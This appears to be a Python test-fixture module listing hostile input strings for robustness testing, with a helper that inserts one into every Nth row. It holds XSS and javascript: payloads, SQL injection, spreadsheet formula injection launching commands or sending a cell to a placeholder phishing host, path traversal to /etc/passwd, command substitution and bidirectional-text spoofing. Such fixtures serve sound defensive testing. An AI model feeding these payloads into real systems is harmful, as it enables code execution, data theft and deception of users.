"""Strings that break careless programs. They are shown as typed, everywhere; tests look for them."""

from __future__ import annotations

_ZERO_WIDTH = "\u200b"
_OVERRIDE, _ISOLATE, _POP = "\u202e", "\u2067", "\u2069"
_MARKS = "\u0300\u0301\u0302\u0303\u0304\u0306\u0307\u0308\u030a\u030b\u030c\u0317\u0323\u0325\u0330\u0331"

SHORT = (
    '<img src="file:///etc/passwd">',
    "<script>alert('idea')</script>",
    '<a href="https://phish.example.com/">Sign in again</a>',
    "<table><tr><td>&lt;b&gt; &amp; &#x41;</td></tr></table>",
    f"{_OVERRIDE}gpj.elbakrameR",
    f"Good {_ISOLATE}evil{_POP} ending{_OVERRIDE}",
    "שלום عليكم mixed with English 123",
    f"zero{_ZERO_WIDTH}width{_ZERO_WIDTH}j\u200do\u200ci\u200bn\ufeff",
    "👩‍👩‍👧‍👦 family 🏳️‍🌈 flags 🇳🇿 👍🏽 tones",
    "".join(letter + _MARKS for letter in "Zalgo"),
    "Line one\nline two\r\nline three\ttabbed",
    "end'); DROP TABLE ideas;--",
    "' OR 1=1; SELECT pg_sleep(10) --",
    '=HYPERLINK("https://phish.example.com/?"&A1,"Invoice")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "bell\x07 escape\x1b[31m red\x1b[0m backspace\x08 del\x7f",
    "[click me](javascript:alert(1)) **bold** `code`",
    "javascript:alert(document.cookie)",
    "data:text/html;base64,PHNjcmlwdD4x",
    "file:///etc/passwd",
    "%s %d %n {0} {name} ${HOME} $(id) `id` {{7*7}}",
    "../../../../etc/passwd",
    "NULL",
    "Ｆｕｌｌｗｉｄｔｈ ﬁgure ℌ𝔢𝔩𝔩𝔬 раура1",
    "\u2028line separator\u2029paragraph separator",
    " \u00a0 leading and trailing spaces \u3000 ",
)
"""At most 100 characters, so that they fit every column that people type into."""

LONG_TITLE = "Unbreakable" + "abcdefghijklmnopqrstuvwxyz" * 7 + "0123456"
"""200 characters without a space."""

LONG_PROSE = (
    "It goes on. " * 1_700
    + "\n"
    + "W" * 400
    + "\n"
    + "<b>" * 60
    + " "
    + "\u0301" * 50
    + _OVERRIDE
    + "The end."
)
"""A prompt of 20 kB that ends badly."""


def hostile(number: int, every: int) -> str | None:
    """The hostile string of row `number`, if it is one of those (one row in `every`); all of them in turn."""
    if number % every != every // 2:
        return None
    return SHORT[number // every % len(SHORT)]
